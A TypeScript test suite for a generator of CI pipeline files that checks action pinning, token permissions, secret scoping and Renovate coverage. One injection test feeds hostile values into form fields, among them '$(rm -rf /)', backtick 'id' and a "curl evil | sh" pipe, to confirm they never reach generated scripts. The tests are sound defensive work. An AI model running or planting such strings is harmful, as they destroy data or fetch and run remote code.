import { parse } from 'yaml';
import { context, service } from '../../__fixtures__/service';
import { inFolder, run, withTool } from '../../__fixtures__/tools';
import { ServiceInput } from '../../input/serviceInputSchema';
import { plan } from '../../plan/plan';
import { PlanFile } from '../../plan/types';
import { codeOwners } from './housekeeping';

const planned = (changes: Partial<ServiceInput> = {}) =>
  plan(service(changes), context()).files;
const text = (files: readonly PlanFile[], path: string) =>
  files.find(f => f.path === path)?.content ?? '';
const named = (name: string) => `ci/${name}.sh`;
const scripts = [
  'build',
  'evidence',
  'gate',
  'policies',
  'scan',
  'schemas',
  'tools',
].map(named);

interface Job {
  permissions: Record<string, string>;
  needs?: string;
  if?: string;
  steps: { uses?: string; run?: string; env?: Record<string, string> }[];
}

describe('pipelines', () => {
  it.each([
    [undefined, '.github/workflows/ci.yaml'],
    ['github', '.github/workflows/ci.yaml'],
    ['gitlab', '.gitlab-ci.yml'],
    ['jenkins', 'Jenkinsfile'],
  ] as const)(
    'of %s is one thin file over the same scripts',
    (pipeline, path) => {
      const files = planned({ pipeline });
      const hosts = files.filter(({ path: p }) =>
        /^(\.github\/|\.gitlab-ci|Jenkinsfile)/.test(p),
      );
      expect(hosts.map(f => f.path)).toEqual([path]);
      const called = text(files, path).match(/ci\/\w+\.sh/g) ?? [];
      expect([...new Set(called)].sort()).toEqual(scripts);
      for (const script of scripts) {
        expect(text(files, script)).toBe(text(planned(), script));
      }
    },
  );

  it('marks the scripts as programs, and nothing else', () => {
    const programs = planned().filter(({ mode }) => mode === '100755');
    expect(programs.map(({ path }) => path)).toEqual(scripts);
  });

  it('tests policies only where there is an engine that can', () => {
    const files = planned({ policies: ['kyverno'] });
    expect(files.map(f => f.path)).not.toContain(named('policies'));
    expect(text(files, '.github/workflows/ci.yaml')).not.toContain('policies');
    expect(text(files, '.pre-commit-config.yaml')).not.toContain('ci/policies');
  });

  it('takes nothing of the form but the name of the owner', () => {
    const hostile = [
      '$(rm -rf /)',
      '`id`',
      '{{ github.token }}',
      "'; curl evil | sh; '",
      '"$IFS"',
    ].join(' ');
    const harmless = planned();
    const attacked = planned({
      description: hostile,
      annotations: { 'example.com/note': hostile },
      env: { NOTE: hostile },
      costCenter: '$(id)',
      model: { ref: 'model:default/credit-risk', version: '7' },
    });
    expect(attacked.length).toBe(harmless.length);
    for (const { path, content } of harmless) {
      if (/^(ci|policies)\/|^\.|^renovate|^CODEOWNERS/.test(path)) {
        expect(text(attacked, path)).toBe(content);
      }
    }
  });

  it('gives a job of GitHub no more than it needs', () => {
    const content = text(planned(), '.github/workflows/ci.yaml');
    const workflow = parse(content);
    const { check, release }: Record<string, Job> = workflow.jobs;
    expect(workflow.permissions).toEqual({ contents: 'read' });
    expect(check.permissions).toEqual({ contents: 'read' });
    expect(release.permissions).toEqual({
      contents: 'read',
      'id-token': 'write',
    });
    expect(release.if).toBe("github.event_name == 'push'");
    expect(release.needs).toBe('check');
    const steps = [...check.steps, ...release.steps];
    const used = steps.flatMap(({ uses }) => uses ?? []);
    expect(used).toHaveLength(6);
    for (const uses of used) expect(uses).toMatch(/@[0-9a-f]{40}$/);
    expect(
      content.match(/uses: .+@[0-9a-f]{40} # v\d+\.\d+\.\d+\n/g),
    ).toHaveLength(used.length);
    const secretive = steps.filter(step =>
      JSON.stringify(step).includes('secrets.'),
    );
    expect(secretive.map(step => step.run)).toEqual([
      named('evidence'),
      named('gate'),
    ]);
    expect(steps.every(step => !step.run?.includes('${{'))).toBe(true);
  });

  it('has the shape that GitLab reads', () => {
    const { stages, workflow, check, release } = parse(
      text(planned({ pipeline: 'gitlab' }), '.gitlab-ci.yml'),
    );
    expect(stages).toEqual([check.stage, release.stage]);
    expect([check.timeout, release.timeout]).toEqual([
      '30 minutes',
      '30 minutes',
    ]);
    expect(workflow.rules).toHaveLength(2);
    expect(release.rules).toEqual([
      { if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH' },
    ]);
    expect(release.id_tokens).toEqual({
      MODELYARD_ID_TOKEN: { aud: 'modelyard' },
    });
    expect(check.id_tokens).toBeUndefined();
    expect(release.environment).toEqual({
      name: 'modelyard',
      action: 'access',
    });
    for (const { image } of [check, release]) {
      expect(image).toMatch(/@sha256:[0-9a-f]{64}$/);
    }
  });

  it('has the stages of a Jenkinsfile, those with secrets only on main', () => {
    const content = text(planned({ pipeline: 'jenkins' }), 'Jenkinsfile');
    for (const [open, close] of ['{}', '()', '[]']) {
      expect(content.split(open).length).toBe(content.split(close).length);
    }
    const stages = content.split(/^ {4}stage\(/m).slice(1);
    expect(stages.map(stage => /sh '(.+)'/.exec(stage)?.[1])).toEqual([
      named('tools'),
      named('build'),
      named('schemas'),
      named('policies'),
      named('scan'),
      `${named('tools')} modelyard`,
      named('evidence'),
      named('gate'),
    ]);
    const guarded = stages.filter(stage => stage.includes('withCredentials'));
    expect(guarded).toHaveLength(2);
    for (const stage of guarded) expect(stage).toContain("branch 'main'");
  });

  it('lets Renovate find every tool and every tagged image', () => {
    const files = planned();
    const { customManagers } = JSON.parse(text(files, 'renovate.json'));
    const [tools, images] = customManagers.map(
      (manager: { matchStrings: string[] }) =>
        new RegExp(manager.matchStrings[0], 'g'),
    );
    const found = [...text(files, named('tools')).matchAll(tools)];
    expect(found.map(({ groups }) => groups?.depName)).toEqual([
      'sigs.k8s.io/kustomize/kustomize/v5',
      'sigs.k8s.io/kubectl-validate',
      'github.com/open-policy-agent/gatekeeper/v3',
      'github.com/mikefarah/yq/v4',
      '@modelyard/cli',
      'aquasecurity/trivy',
      'aquasecurity/trivy',
    ]);
    expect(found[6].groups).toMatchObject({ currentValue: 'v0.74.0' });
    expect(found[6].groups?.currentDigest).toHaveLength(64);
    const digest = `sha256:${'c'.repeat(64)}`;
    const line = (image: string) => `  value: "${image}@${digest}"\n`;
    const [image, ...others] = [
      ...(line('localhost:5000/a/b:1.2') + line('docker.io/a/b')).matchAll(
        images,
      ),
    ];
    expect(others).toEqual([]);
    expect(image.groups).toMatchObject({
      depName: 'localhost:5000/a/b',
      currentValue: '1.2',
      currentDigest: digest,
    });
  });

  it('pins what runs before a commit', () => {
    const { repos } = parse(text(planned(), '.pre-commit-config.yaml'));
    const remote = repos.filter((r: { repo: string }) => r.repo !== 'local');
    for (const { rev } of remote) expect(rev).toMatch(/^[0-9a-f]{40}$/);
    const local = repos.find((r: { repo: string }) => r.repo === 'local');
    expect(local.hooks.map((h: { entry: string }) => h.entry)).toEqual(
      ['build', 'schemas', 'policies'].map(named),
    );
  });

  it('says who reviews', () => {
    expect(text(planned(), 'CODEOWNERS')).toMatch(/^\* @risk-ml\n/);
    expect(codeOwners('risk-ml', 'platform')).toContain('/ci/ @platform\n');
  });
});

const lint = withTool('actionlint');

lint.describeTool(lint.title, () => {
  it.each([['gatekeeper'], ['kyverno']] as const)(
    'finds nothing in the workflow with %s',
    engine => {
      inFolder(planned({ policies: [engine] }), cwd => {
        const workflow = '.github/workflows/ci.yaml';
        expect(run('actionlint', [workflow], { cwd })).toBe('');
      });
    },
  );
});

const shell = withTool('shellcheck');

shell.describeTool(shell.title, () => {
  it('finds nothing in the scripts', () => {
    inFolder(planned(), cwd => {
      expect(run('shellcheck', scripts, { cwd })).toBe('');
      for (const script of scripts) run('bash', ['-n', script], { cwd });
    });
  });
});
